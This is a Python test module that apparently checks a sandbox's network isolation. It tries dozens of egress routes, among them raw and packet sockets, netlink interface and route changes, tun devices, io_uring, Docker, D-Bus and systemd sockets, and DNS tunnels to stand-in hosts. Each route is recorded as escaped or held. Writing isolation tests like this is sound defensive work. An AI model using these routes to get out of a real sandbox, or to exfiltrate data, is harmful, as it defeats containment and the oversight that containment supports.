"""Attempts to send a byte to somebody outside, by any kind of socket."""

import ctypes
import os
import socket
import struct

from attempting import attempt, escaped, held, system_call

ROUTE, SETLINK, NEWLINK, NEWADDR, NEWROUTE = 0, 19, 16, 20, 24


def speak(aims, family, kind, address, protocol=0):
    """Send our token; whoever answers with the outside's secret is outside."""
    with socket.socket(family, kind, protocol) as own:
        own.settimeout(aims["wait"])
        own.connect(address)
        own.sendall(aims["token"].encode())
        try:
            said = own.recv(1000)
        except TimeoutError:
            return held("answered by the lab: taken, and no word")
        except ConnectionError as error:
            return held(f"answered by the lab: {type(error).__name__}")
        if aims["secret"].encode() in said:
            return escaped("the listener outside answered")
        return held(f"answered by the lab: {len(said)} bytes")


@attempt("listener on the host's loopback", "TCP over IPv4")
def tcp4(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", aims["tcp4"]))


@attempt("listener on the host's loopback", "TCP over IPv6")
def tcp6(aims):
    return speak(aims, socket.AF_INET6, socket.SOCK_STREAM, ("::1", aims["tcp6"]))


@attempt("listener on the host's loopback", "TCP over IPv6 to a mapped IPv4 address")
def tcp_mapped(aims):
    return speak(aims, socket.AF_INET6, socket.SOCK_STREAM, ("::ffff:127.0.0.1", aims["tcp4"]))


@attempt("listener on the host's loopback", "Multipath TCP")
def mptcp(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", aims["tcp4"]), 262)


@attempt("listener on the host's loopback", "TCP Fast Open, data in the first packet")
def fast_open(aims):
    with socket.socket() as own:
        own.settimeout(aims["wait"])
        own.sendto(aims["token"].encode(), socket.MSG_FASTOPEN, ("127.0.0.1", aims["tcp4"]))
        said = own.recv(1000)
    return escaped("answered") if aims["secret"].encode() in said else held("answered by the lab")


@attempt("listener on the host's own addresses", "TCP over IPv4 to every address of the host")
def tcp_own(aims):
    ends = []
    for address in aims["addresses"]:
        try:
            ended = speak(aims, socket.AF_INET, socket.SOCK_STREAM, (address, aims["tcp4"]))
        except OSError as error:
            ended = held(type(error).__name__)
        ends.append(ended)
    return next((own for own in ends if not own["held"]), ends[0] if ends else held("it has none"))


@attempt("listener on the host's loopback", "UDP over IPv4")
def udp4(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", aims["udp4"]))


@attempt("listener on the host's loopback", "UDP over IPv6")
def udp6(aims):
    return speak(aims, socket.AF_INET6, socket.SOCK_DGRAM, ("::1", aims["udp6"]))


@attempt("listener on the host's loopback", "UDP-Lite")
def udp_lite(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", aims["udp4"]), 136)


@attempt("listener on the host's loopback", "SCTP")
def sctp(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", aims["tcp4"]), 132)


@attempt("listener on the host's loopback", "UDP broadcast")
def broadcast(aims):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        own.sendto(aims["token"].encode(), ("255.255.255.255", aims["udp4"]))
    return held("sent into the lab's own loopback")


@attempt("listener on the host's loopback", "UDP multicast")
def multicast(aims):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.sendto(aims["token"].encode(), ("224.0.0.251", aims["udp4"]))
    return held("sent into the lab's own loopback")


@attempt("listener in another network namespace", "TCP over IPv4")
def other_tcp(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_STREAM, (aims["other"], aims["other_tcp"]))


@attempt("listener in another network namespace", "UDP over IPv4")
def other_udp(aims):
    return speak(aims, socket.AF_INET, socket.SOCK_DGRAM, (aims["other"], aims["other_udp"]))


@attempt("listener in another network namespace", "abstract Unix socket")
def other_abstract(aims):
    return speak(aims, socket.AF_UNIX, socket.SOCK_STREAM, f"\0{aims['other_abstract']}")


@attempt("any address", "ICMP echo, with the token as its data")
def ping(aims):
    echo = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + aims["token"].encode()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as own:
        own.sendto(echo, ("127.0.0.1", 0))
    return held("sent into the lab's own loopback")


@attempt("any address", "ICMPv6 echo")
def ping6(aims):
    echo = struct.pack("!BBHHH", 128, 0, 0, 1, 1) + aims["token"].encode()
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM, socket.IPPROTO_ICMPV6) as own:
        own.sendto(echo, ("::1", 0))
    return held("sent into the lab's own loopback")


@attempt("any address", "raw ICMP socket")
def raw_icmp(_):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close()


@attempt("any address", "raw IP socket")
def raw_ip(_):
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW).close()


@attempt("any address", "raw IPv6 socket")
def raw_ip6(_):
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW).close()


@attempt("any interface", "packet socket (AF_PACKET)")
def packet(_):
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.ntohs(3)).close()


@attempt("listener of the host", "virtual machine socket (AF_VSOCK)")
def vsock(aims):
    return speak(aims, socket.AF_VSOCK, socket.SOCK_STREAM, (1, aims["vsock"]))


@attempt("any", "sockets of every other family")
def families(_):
    made = []
    for family in range(64):
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
            try:
                socket.socket(family, kind, 0).close()
            except OSError:
                continue
            made.append(family)
    kept = {socket.AF_UNIX, socket.AF_INET, socket.AF_INET6, socket.AF_NETLINK}
    if beyond := set(made) - kept:
        return escaped(f"families {sorted(beyond)}")
    return held("only local, IPv4, IPv6 and route netlink can be made")


@attempt("any", "netlink of every kind but route")
def netlinks(_):
    made = []
    for protocol in range(1, 32):
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol).close()
        except OSError:
            continue
        made.append(protocol)
    return escaped(f"kinds {made}") if made else held("EAFNOSUPPORT, each of them")


@attempt("any", "sockets by the numbers of the x32 interface")
def x32(_):
    system_call(0x40000000 + 41, 40, 1, 0)


def ask_kernel(kind, body, flags=0):
    """A request over route netlink (rtnetlink(7)); raises OSError with the kernel's answer."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, ROUTE) as own:
        own.settimeout(1)
        own.send(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body)
        answer = own.recv(4096)
    (number,) = struct.unpack_from("=i", answer, 16)
    if number:
        raise OSError(-number, os.strerror(-number))


def attribute(kind, value):
    value += b"\0" * (-len(value) % 4)
    return struct.pack("=HH", 4 + len(value), kind) + value


CREATE = 0x600
LO_UP = struct.pack("=BxHiII", 0, 0, 1, 1, 1)


@attempt("any interface", "netlink: make a pair of interfaces, one for the host")
def make_pair(_):
    info = attribute(18, attribute(1, b"veth"))
    ask_kernel(
        NEWLINK, struct.pack("=BxHiII", 0, 0, 0, 0, 0) + attribute(3, b"out\0") + info, CREATE
    )


@attempt("any interface", "netlink: bring up the kernel's own tunnels")
def bring_up(_):
    for index, name in socket.if_nameindex():
        if name != "lo":
            ask_kernel(SETLINK, struct.pack("=BxHiII", 0, 0, index, 1, 1))
            break
    else:
        ask_kernel(SETLINK, LO_UP)


@attempt("any interface", "netlink: move an interface to another process's namespace")
def move_interface(_):
    ask_kernel(SETLINK, LO_UP + attribute(19, struct.pack("=I", 1)))


@attempt("any address", "netlink: add a route")
def add_route(aims):
    body = struct.pack("=BBBBBBBBI", 2, 32, 0, 0, 254, 4, 253, 1, 0)
    body += attribute(1, socket.inet_aton(aims["other"])) + attribute(4, struct.pack("=I", 1))
    ask_kernel(NEWROUTE, body, CREATE)


@attempt("any address", "netlink: add an address")
def add_address(_):
    ask_kernel(
        NEWADDR, struct.pack("=BBBBI", 2, 24, 0, 0, 1) + attribute(2, b"\xc6\x33\x64\x01"), CREATE
    )


@attempt("any interface", "a tunnel of its own (/dev/net/tun)")
def tunnel(_):
    os.open("/dev/net/tun", os.O_RDWR)


@attempt("any address", "a socket that is not bound by routing (IP_TRANSPARENT)")
def transparent(_):
    with socket.socket() as own:
        own.setsockopt(socket.SOL_IP, 19, 1)


@attempt("any address", "a packet filter of its own (SO_ATTACH_BPF on a raw socket, nf_tables)")
def packet_filter(_):
    socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12).close()


@attempt("any", "io_uring, whose sockets no filter sees")
def io_uring(_):
    system_call(425, 8, ctypes.create_string_buffer(256))


@attempt("Unix socket of the host", "by path")
def unix_path(aims):
    return speak(aims, socket.AF_UNIX, socket.SOCK_STREAM, aims["unix"])


@attempt("Unix socket of the host", "by path, through /proc/1/root")
def unix_proc(aims):
    return speak(aims, socket.AF_UNIX, socket.SOCK_STREAM, f"/proc/1/root{aims['unix']}"[:107])


@attempt("Unix socket of the host", "abstract")
def unix_abstract(aims):
    return speak(aims, socket.AF_UNIX, socket.SOCK_STREAM, f"\0{aims['abstract']}")


@attempt("Unix socket of the host", "abstract, datagram")
def unix_datagram(aims):
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as own:
        own.sendto(aims["token"].encode(), f"\0{aims['datagram']}")


@attempt(
    "services of the host", "D-Bus, container engine, display, agent sockets by their usual paths"
)
def services(_):
    found = []
    for place in (
        "/run/dbus/system_bus_socket", "/var/run/dbus/system_bus_socket", "/var/run/docker.sock",
        "/run/docker.sock", "/run/containerd/containerd.sock", "/run/podman/podman.sock",
        "/run/systemd/private", "/run/systemd/notify", "/run/systemd/journal/socket", "/dev/log",
        "/tmp/.X11-unix/X0", "\0/tmp/.X11-unix/X0", "/run/user/0/bus", "/run/user/1000/bus",
        "/run/snapd.socket", "/run/nscd/socket", "/var/run/nscd/socket",
    ):  # fmt: skip
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as own:
            try:
                own.connect(place)
            except OSError:
                continue
            found.append(place)
    return escaped(str(found)) if found else held("none of 17 is there")


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack("!6H", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack("!2H", 16, 1)


@attempt("a name server outside", "DNS tunnel through the system's resolver")
def dns_tunnel(aims):
    found = socket.getaddrinfo(f"{aims['token'][:50]}.tunnel.example", 80, socket.AF_INET)
    return held(f"answered by the lab: {found[0][4][0]}")


@attempt("a name server outside", "DNS tunnel to a server of its own, TXT over UDP")
def dns_own_server(aims):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as own:
        own.settimeout(1)
        own.sendto(question(f"{aims['token'][:50]}.txt.example"), ("192.0.2.53", 53))
        return held(f"answered by the lab: {len(own.recv(4096))} bytes")
